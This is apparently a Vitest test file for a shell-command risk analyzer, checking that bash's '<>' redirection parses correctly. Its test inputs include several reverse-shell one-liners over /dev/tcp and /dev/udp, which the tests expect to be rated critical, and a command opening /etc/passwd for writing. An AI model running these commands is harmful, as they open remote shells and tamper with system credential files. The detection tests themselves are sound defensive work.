import { beforeAll, describe, expect, it } from "vitest";
import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";

/** `<>` opens a file or socket for reading and writing: bash reads it as one redirection, and so must wren. */
const cwd = "/home/ada/code/app";
const home = "/home/ada";

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await createShellAnalyzer();
});

const details = (command: string): string => analyzer.analyze(command, { shell: "bash", cwd, home }).reasons.map((r) => r.detail).join("; ");

describe("the read-write redirection <>", () => {
  it.each(["bash 0<>/dev/tcp/10.0.0.1/4444", "bash <>/dev/tcp/10.0.0.1/4444", "sh -i 5<>/dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5", "zsh 0<>/dev/udp/h/53", "sudo bash 0<> /dev/tcp/h/1"])(
    "%s is a reverse shell, read without a syntax error",
    (command) => {
      const result = analyzer.analyze(command, { shell: "bash", cwd, home });
      expect(result.risk).toBe("critical");
      expect(details(command)).toMatch(/runs commands received over the network with (bash|sh|zsh) \(a reverse shell\)/);
      expect(details(command)).not.toMatch(/syntax error|overwrites the device/);
    },
  );

  it.each(["cat <> notes.txt", "exec 3<> notes.txt", "cat 0<>notes.txt"])("%s is read as a redirection", (command) => {
    const result = analyzer.analyze(command, { shell: "bash", cwd, home });
    expect(details(command)).not.toMatch(/syntax error/);
    expect(result.risk).toBe("safe");
  });

  it("a <> on a system file is rated as writing it", () => {
    expect(analyzer.analyze("exec 3<>/etc/passwd", { shell: "bash", cwd, home }).risk).toBe("critical");
  });

  it("a real syntax error next to < is still one", () => {
    expect(details("cat < | x")).toMatch(/syntax error/);
  });
});
